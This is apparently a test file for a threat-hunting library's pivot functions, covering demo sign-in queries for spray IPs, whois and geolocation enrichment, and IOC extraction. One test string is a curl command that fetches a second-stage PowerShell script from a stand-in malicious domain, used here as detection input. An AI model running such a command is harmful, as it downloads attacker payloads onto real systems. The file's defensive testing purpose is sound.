// Pivot functions on the demo data (offline: demo enrichment), against the built package.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { loadHuntbook, typecheck } from "./helpers.mjs";

let hb, qp, pivot, E;
const DAY = 86400000;
let start, end;

before(async () => {
  hb = await loadHuntbook();
  await hb.loadDemo();
  hb.useDemoEnrichment(true);
  end = new Date();
  start = new Date(end.getTime() - 7 * DAY);
  qp = new hb.QueryProvider("LocalData");
  pivot = new hb.Pivot({ queryProvider: qp });
  E = hb.entities;
});

after(() => hb.useDemoEnrichment(false));

const SPRAY = ["185.220.101.45", "45.153.160.2", "193.142.146.213"];
const kqlList = (xs) => xs.map((x) => `"${x}"`).join(", ");

test("function counts per entity, names and containers as msticpy", () => {
  const counts = pivot.counts();
  console.log("pivot functions per entity:", counts);
  assert.deepEqual(counts, { Account: 12, Host: 15, IpAddress: 17, Dns: 6, Url: 8, File: 2, Process: 4, AzureResource: 1 });
  assert.equal(pivot.functions().length, 65);
  assert.equal(pivot.functions("IpAddress").length, 17);
  assert.equal(pivot.functions(E.Dns).length, 6);
  // containers and direct names on the classes
  assert.equal(typeof E.IpAddress.whois, "function");
  assert.equal(E.IpAddress.util.whois, E.IpAddress.whois);
  assert.equal(E.IpAddress.ti.lookup_ip, E.IpAddress.tilookup_ip);
  assert.equal(E.IpAddress.MSSentinel.list_aad_signins_for_ip, E.IpAddress.MSSentinel.aad_signins);
  assert.equal(E.IpAddress.aad_signins, E.IpAddress.MSSentinel.aad_signins);
  assert.equal(E.IpAddress.MSSentinel.Azure_list_aad_signins_for_ip.fullName, "IpAddress.MSSentinel.list_aad_signins_for_ip");
  for (const [cls, name] of [[E.Dns, "dns_resolve"], [E.Dns, "dns_components"], [E.Dns, "tilookup_dns"], [E.Url, "url_components"],
    [E.Url, "tilookup_url"], [E.File, "tilookup_file_hash"], [E.Process, "b64decode"], [E.Process, "extract_iocs"], [E.IpAddress, "geoloc"], [E.IpAddress, "ip_type"]]) {
    assert.equal(typeof cls[name], "function", `${cls.kind}.${name}`);
  }
  // a clash goes to neither: AzureActivity and Office365 both have list_activity_for_ip
  assert.equal(E.IpAddress.MSSentinel.list_activity_for_ip, undefined);
  assert.equal(E.IpAddress.MSSentinel.o365_activity.info.query, "Office365.list_activity_for_ip");
  // the listing's shape
  const f = pivot.functions("IpAddress").find((x) => x.fullName === "IpAddress.MSSentinel.list_aad_signins_for_ip");
  assert.deepEqual(
    { entity: f.entity, container: f.container, name: f.name, names: f.names, kind: f.kind, inputParam: f.inputParam, attribute: f.attribute, list: f.list, query: f.query, keyColumn: f.keyColumn, example: f.example },
    { entity: "IpAddress", container: "MSSentinel", name: "list_aad_signins_for_ip", names: ["list_aad_signins_for_ip", "aad_signins", "Azure_list_aad_signins_for_ip"],
      kind: "query", inputParam: "ip_address_list", attribute: "Address", list: true, query: "Azure.list_aad_signins_for_ip", keyColumn: "IPAddress",
      example: 'await IpAddress.aad_signins(["185.220.101.45"])' });
  assert.match(f.template, /\| where IPAddress in \(\{ip_address_list\}\)/);
  assert.deepEqual(f.params.map((p) => p.name), ["table", "start", "end", "add_query_items"]);
  assert.match(E.IpAddress.whois.help(), /Key column of the result: query/);
  assert.deepEqual(pivot.search("whois").map((x) => x.fullName), ["IpAddress.util.whois"]);
  assert.equal(pivot.get("IpAddress.aad_signins"), E.IpAddress.aad_signins);
  assert.throws(() => pivot.get("IpAddress.aad_signin"), /did you mean 'aad_signins'\?/);
});

test("IpAddress.ip_type on one value", async () => {
  const df = await E.IpAddress.ip_type("24.16.133.227");
  assert.deepEqual(df.toRows(), [{ ip: "24.16.133.227", result: "Public", src_row_index: 0 }]);
  const many = await E.IpAddress.ip_type(["10.0.2.17", "24.16.133.227", "10.0.2.17", null]);
  assert.deepEqual(many.toRows().map((r) => [r.ip, r.result, r.src_row_index]), [["10.0.2.17", "Private", 0], ["24.16.133.227", "Public", 1]]);
  // an entity, and a method on instances
  const ip = new E.IpAddress("127.0.0.1");
  assert.equal((await E.IpAddress.ip_type(ip)).row(0).result, "Loopback");
  assert.equal((await ip.ip_type()).row(0).result, "Loopback");
});

test("a list query parameter takes all values in one query", async () => {
  const progress = [];
  const df = await E.IpAddress.MSSentinel.list_aad_signins_for_ip(SPRAY, { start, end, onProgress: (d, t) => progress.push([d, t]) });
  assert.deepEqual(progress, [[0, 1], [1, 1]], "one call");
  const expected = await qp.execQuery(
    `SigninLogs | where TimeGenerated between (datetime(${start.toISOString()}) .. datetime(${end.toISOString()})) ` +
      `| where IPAddress in (${kqlList(SPRAY)}) | summarize n = count() by IPAddress`);
  const want = Object.fromEntries(expected.toRows().map((r) => [r.IPAddress, Number(r.n)]));
  assert.ok(want["185.220.101.45"] >= 20, JSON.stringify(want));
  const rows = df.toRows();
  assert.equal(rows.length, want["185.220.101.45"] + want["45.153.160.2"] + want["193.142.146.213"]);
  for (const r of rows) assert.equal(r.src_row_index, SPRAY.indexOf(r.IPAddress), r.IPAddress);
  assert.ok(df.columns.includes("Result"));
  // the direct v2 name is the same function
  assert.equal((await E.IpAddress.aad_signins(SPRAY, { start, end })).numRows, rows.length);
});

test("a per-value query on a table column, joined left", async () => {
  const logons = await qp.execQuery(
    `SigninLogs | where TimeGenerated between (datetime(${start.toISOString()}) .. datetime(${end.toISOString()})) ` +
      `| where IPAddress == "185.220.101.45" | project TimeGenerated, UserPrincipalName, IPAddress`);
  const users = [...new Set(logons.toRows().map((r) => r.UserPrincipalName))];
  assert.ok(users.length >= 5 && logons.numRows > users.length, "duplicates in the key column");
  const progress = [];
  const joined = await E.Account.MSSentinel.list_aad_signins_for_account(logons, {
    column: "UserPrincipalName", join: "left", start, end, concurrency: 3, onProgress: (d, t) => progress.push([d, t]),
  });
  assert.equal(progress.at(-1)[0], users.length);
  assert.equal(progress.at(-1)[1], users.length, "one query per distinct account");
  // expected: each input row × the sign-ins of its account (the query's own condition, asked directly)
  const per = {};
  for (const u of users) {
    const short = u.split("@")[0];
    per[u] = (await qp.execQuery(
      `SigninLogs | where TimeGenerated between (datetime(${start.toISOString()}) .. datetime(${end.toISOString()})) ` +
        `| where UserPrincipalName has "${short}" or UserId =~ "${u}"`)).numRows;
  }
  const expected = logons.toRows().reduce((n, r) => n + Math.max(1, per[r.UserPrincipalName]), 0);
  assert.equal(joined.numRows, expected);
  assert.ok(joined.columns.includes("UserPrincipalName_src") && joined.columns.includes("UserPrincipalName_res"), joined.columns.join());
  const rows = joined.toRows();
  assert.deepEqual([...new Set(rows.map((r) => r.src_row_index))], [...Array(logons.numRows).keys()]);
  for (const r of rows) assert.equal(r.UserPrincipalName_src, logons.row(r.src_row_index).UserPrincipalName);
  // without join: each account's sign-ins once, src_row_index = the first input row of the account
  const plain = await E.Account.MSSentinel.list_aad_signins_for_account(logons, { column: "UserPrincipalName", start, end });
  assert.equal(plain.numRows, users.reduce((n, u) => n + per[u], 0));
});

test("IpAddress.whois(df, {column, join: 'left'}) gives asn_description on every row", async () => {
  const signins = await qp.execQuery(
    `SigninLogs | where TimeGenerated > ago(7d) | where IPAddress in (${kqlList(SPRAY)}) or IPAddress == "10.0.250.14" | project TimeGenerated, UserPrincipalName, IPAddress`);
  const df = await E.IpAddress.whois(signins, { column: "IPAddress", join: "left" });
  assert.equal(df.demo, true);
  assert.equal(df.numRows, signins.numRows, "one whois row per distinct IP, joined left");
  const direct = Object.fromEntries((await hb.whois(SPRAY)).toRows().map((r) => [r.query, r.asn_description]));
  assert.ok(direct["185.220.101.45"], JSON.stringify(direct));
  for (const r of df.toRows()) assert.equal(r.asn_description, direct[r.IPAddress] ?? null, r.IPAddress);
  assert.deepEqual(df.columns.slice(0, 4), ["TimeGenerated", "UserPrincipalName", "IPAddress", "query"]);
  assert.equal(df.columns.at(-1), "src_row_index");
  // a wrong column lists the columns
  await assert.rejects(E.IpAddress.whois(signins, { column: "IPAdress", join: "left" }),
    /IpAddress\.util\.whois: unknown column 'IPAdress' \(did you mean 'IPAddress'\?\)\. Columns are: TimeGenerated, UserPrincipalName, IPAddress/);
  await assert.rejects(E.IpAddress.whois(signins, { jion: "left" }), /unknown option 'jion' \(did you mean 'join'\?\)/);
});

test("enrichment and utility pivots in demo mode", async () => {
  const dns = await E.Dns.dns_resolve(["cdn-updates.northwind-sync.xyz"]);
  assert.deepEqual(dns.toRows(), [{ Name: "cdn-updates.northwind-sync.xyz", Type: "A", TTL: 60, Data: "203.0.113.66", src_row_index: 0 }]);
  const parts = await E.Dns.dns_components("www.microsoft.com");
  assert.deepEqual(parts.toRows(), [{ Name: "www.microsoft.com", subdomain: "www", domain: "microsoft", suffix: "com", src_row_index: 0 }]);
  const url = "http://85.214.149.236:443/sugarcrm/themes/default/images/";
  const ti = await E.Url.tilookup_url(url);
  assert.ok(ti.numRows >= 1 && ti.toRows().every((r) => r.Ioc === url && r.src_row_index === 0), JSON.stringify(ti.toRows()));
  const geo = await E.IpAddress.geoloc(["185.220.101.45", "10.0.0.1"]);
  assert.equal(geo.toRows().find((r) => r.IpAddress === "185.220.101.45").src_row_index, 0);
  const iocs = await E.Process.extract_iocs("curl http://cdn-updates.northwind-sync.xyz/stage2.ps1 -o x");
  assert.ok(iocs.toRows().some((r) => r.IoCType === "url" && r.Observable === "http://cdn-updates.northwind-sync.xyz/stage2.ps1"));
});

test("user functions register with the same conventions", async () => {
  const seen = [];
  const fn = pivot.register({
    entity: "IpAddress", name: "octets", keyColumn: "ip", description: "the first octet",
    func: async (value) => { seen.push(value); return { ip: value, first: Number(value.split(".")[0]) }; },
  });
  assert.equal(fn, E.IpAddress.octets);
  assert.equal(E.IpAddress.custom.octets, fn);
  const t = await qp.execQuery(`print IPAddress = "10.1.1.1" | union (print IPAddress = "192.168.0.1") | union (print IPAddress = "10.1.1.1")`);
  const df = await fn(t, { column: "IPAddress", join: "inner" });
  assert.deepEqual(seen, ["10.1.1.1", "192.168.0.1"], "each distinct value once");
  assert.deepEqual(df.toRows().map((r) => [r.IPAddress, r.first, r.src_row_index]), [["10.1.1.1", 10, 0], ["192.168.0.1", 192, 1], ["10.1.1.1", 10, 2]]);
  const lists = pivot.register({ entity: "IpAddress", name: "bulk", list: true, func: (values) => values.map((v) => ({ ip: v, n: v.length })), keyColumn: "ip" });
  const b = await lists(["1.2.3.4", "10.0.0.1"]);
  assert.deepEqual(b.toRows(), [{ ip: "1.2.3.4", n: 7, src_row_index: 0 }, { ip: "10.0.0.1", n: 8, src_row_index: 1 }]);
  assert.throws(() => pivot.register({ entity: "IpAddress", name: "whois", container: "mine", func: () => [] }), /is already IpAddress\.util\.whois/);
  // a failing call becomes a note; all failing is the error
  const flaky = pivot.register({ entity: "Dns", name: "flaky", func: (v) => { if (v === "bad.com") throw new Error("nope"); return { Name: v }; } });
  const part = await flaky(["good.com", "bad.com"]);
  assert.equal(part.numRows, 1);
  assert.match(part.notes.join("\n"), /Dns\.custom\.flaky\('bad\.com'\) failed: nope/);
  await assert.rejects(flaky("bad.com"), /Dns\.custom\.flaky: nope/);
});

test("pivotsFor lists what can be run on a table", async () => {
  const signins = qp._data ? await qp.execQuery("SigninLogs | take 5 | project UserPrincipalName, IPAddress") : null;
  const found = pivot.pivotsFor(signins);
  const ip = found.find((c) => c.column === "IPAddress");
  assert.equal(ip.entity, "IpAddress");
  assert.ok(ip.functions.includes("IpAddress.util.whois") && ip.functions.includes("IpAddress.MSSentinel.list_aad_signins_for_ip"));
});

test("cancellation and bad calls", async () => {
  const ac = new AbortController();
  ac.abort();
  await assert.rejects(E.IpAddress.aad_signins(SPRAY, { signal: ac.signal }), /cancel|abort/i);
  await assert.rejects(E.IpAddress.whois(), /IpAddress\.util\.whois\(input, options\): give a value, a list, an entity, entities or a DataFrame/);
  await assert.rejects(E.Process.MSSentinel.list_processes_for_host_and_parent("0x1a2c"), /the query also needs host_name/);
  await assert.rejects(E.IpAddress.whois(["1.2.3.4", new E.IpAddress("5.6.7.8")]), /give values or entities, not both/);
  assert.throws(() => new hb.Pivot({ concurency: 2 }), /Pivot: unknown option 'concurency' \(did you mean 'concurrency'\?\)/);
});

test("the typings describe the pivot API", () => {
  const check = (code) => typecheck(code);
  const ok = check(`
import * as huntbook from "huntbook";
export async function use(df: huntbook.DataFrame): Promise<number> {
  const pivot = new huntbook.Pivot({ queryProvider: new huntbook.QueryProvider("LocalData"), concurrency: 2 });
  const infos: huntbook.PivotFunctionInfo[] = pivot.functions("IpAddress");
  const names: string[] = infos.map((f) => f.fullName + f.example + (f.template ?? ""));
  const { IpAddress } = huntbook.entities;
  const a: huntbook.DataFrame = await IpAddress.whois(df, { column: "IPAddress", join: "left", onProgress: (d: number, t: number) => d + t });
  const fn: huntbook.PivotFunction = pivot.get("IpAddress.MSSentinel.aad_signins");
  const b = await fn(["1.2.3.4"], { start: new Date(), signal: new AbortController().signal });
  pivot.register({ entity: "IpAddress", name: "mine", func: (v: string) => ({ v }) });
  const cols: number = pivot.pivotsFor(df).map((c) => c.functions.length).length;
  return names.length + a.numRows + b.numRows + cols + (b.demo ? 1 : 0);
}
`);
  assert.equal(ok.trim(), "");
  assert.notEqual(check(`import * as huntbook from "huntbook"; export const n: number = new huntbook.Pivot().functions()[0].names;`).trim(), "", "a type error is reported");
});
